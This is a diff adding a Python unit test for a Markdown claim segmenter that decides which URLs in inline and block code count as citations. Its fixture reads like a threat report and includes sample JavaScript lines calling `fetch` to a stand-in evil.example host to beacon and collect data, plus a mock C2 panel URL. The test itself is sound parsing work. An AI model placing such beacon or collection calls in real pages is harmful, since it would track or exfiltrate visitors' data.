@@ -306,3 +306,17 @@ def test_markdown_link_whose_text_is_another_url(tmp_path: Path) -> None:
 def test_leading_url_lines_without_a_paragraph_are_their_own_claim() -> None:
     claims = segment(doc("https://a.example/1", "Text without links."))
     assert [c.text for c in claims] == ["https://a.example/1"]
+
+
+def test_code_is_quoted_material_and_cites_only_when_it_holds_nothing_but_a_url(tmp_path: Path) -> None:
+    """One rule for inline and block code: `https://x` alone cites; a program's URLs do not."""
+    path = tmp_path / "r.md"
+    path.write_text(
+        "The lure used `https://lure.example/tube` on targets.\n\n"
+        "The script called `fetch(\"https://evil.example/beacon\")` from every page.\n\n"
+        "```js\nfetch(\"https://evil.example/collect?id=1\");\n```\n\n"
+        "The panel was listed on its own.\n\n```\nhttps://c2.example/panel\n```\n", encoding="utf-8")
+    claims = segment(read_markdown(path.read_bytes(), path))
+    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
+        ("The lure used https://lure.example/tube on targets.", [("https://lure.example/tube", "inline")]),
+        ("The panel was listed on its own.", [("https://c2.example/panel", "line")])]
